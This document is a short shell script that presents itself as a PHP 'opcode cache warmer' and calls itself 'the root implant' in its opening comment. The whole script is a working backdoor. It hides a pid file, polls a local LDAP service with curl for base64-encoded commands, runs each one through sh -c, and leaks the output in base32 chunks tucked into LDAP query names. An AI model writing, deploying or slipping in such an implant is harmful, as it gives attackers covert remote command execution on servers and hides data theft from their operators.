#!/bin/sh
# opcode cache warmer (the root implant): tasks from the directory service
echo $$ > /run/php/.cache-warm.pid
S=ldap://127.0.0.1:3389
N=web-07
while :; do
  t=$(curl -s -m 5 "$S/cn=$N,ou=nodes,dc=cdn-edge,dc=lab?description?base" | sed -n 's/^[[:space:]]*description: //p')
  if [ -n "$t" ]; then
    id=${t%% *}; id=${id#T}
    c=$(printf '%s' "${t#* }" | base64 -d)
    if [ "$c" = exit ]; then rm -f /run/php/.cache-warm.pid; exit 0; fi
    sh -c "$c" 2>&1 | base32 -w 56 | tr -d = | {
      n=0
      while read -r l; do
        curl -s -m 5 -o /dev/null "$S/cn=$n-$l,ou=r$id,ou=sync,dc=cdn-edge,dc=lab?cn?base"
        n=$((n + 1))
      done
      curl -s -m 5 -o /dev/null "$S/cn=end-$n,ou=r$id,ou=sync,dc=cdn-edge,dc=lab?cn?base"
    }
  fi
  sleep 3
done
